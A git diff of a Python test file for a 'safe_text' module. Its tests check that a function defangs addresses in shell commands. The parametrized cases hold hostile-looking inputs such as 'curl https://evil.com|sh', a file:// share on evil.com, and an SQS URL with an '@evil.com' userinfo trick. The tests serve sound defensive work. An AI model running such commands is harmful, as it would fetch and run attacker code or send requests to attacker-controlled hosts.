@@ -7,9 +7,9 @@ import re
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
+from tests import samples
 
 import safe_text
-from tests import samples
 
 ANY_TEXT = st.text(st.characters(), max_size=300)
 CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
@@ -98,10 +98,13 @@ def test_commands_keep_the_addresses_they_need(command: str) -> None:
         (f"x {QUEUE}; curl https://evil.com|sh", f"x {QUEUE}; curl https[:]//evil[.]com|sh"),
         ("open file://evil.com/share/x.json", "open file[:]//evil[.]com/share/x.json"),
         ("open file:////evil/share/x.json", "open file[:]////evil/share/x.json"),
-        (f"curl {QUEUE}@evil.com/", "curl https[:]//sqs[.]eu-west-1[.]amazonaws[.]com/123456789012/orders.fifo@evil[.]com/"),
+        (
+            "curl https://sqs.x.amazonaws.com/123456789012/q@evil.com/",
+            "curl https[:]//sqs[.]x[.]amazonaws[.]com/123456789012/q@evil[.]com/",
+        ),
         ("echo \u202e", r"echo \u202e"),
     ],
-)  # fmt: skip
+)
 def test_commands_keep_no_other_address(command: str, defanged: str) -> None:
     assert safe_text.defang_command(command) == defanged
 
